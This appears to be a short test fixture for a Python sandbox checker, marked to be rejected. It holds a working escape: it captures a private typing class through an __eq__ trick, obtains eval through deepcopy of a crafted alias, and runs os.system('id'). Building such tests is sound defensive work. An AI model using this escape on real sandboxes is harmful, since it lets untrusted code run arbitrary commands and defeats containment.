# expect: reject class_value
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: type(x) == obj asks obj.__eq__(the class) once the class's own __eq__
#   answers NotImplemented: the program's method holds the private class of a
#   typing alias, a constructor of aliases whose reduce indexes typing's globals.
# Goal reached: eval obtained as a value; ran a process (id).
import copy
import typing

got = []


class Catch:
    def __eq__(self, other):
        got.append(other)
        return False

    __hash__ = None


print(type(typing.List[int]) == Catch())
alias = got[0](dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
ev("__import__('os').system('id')")
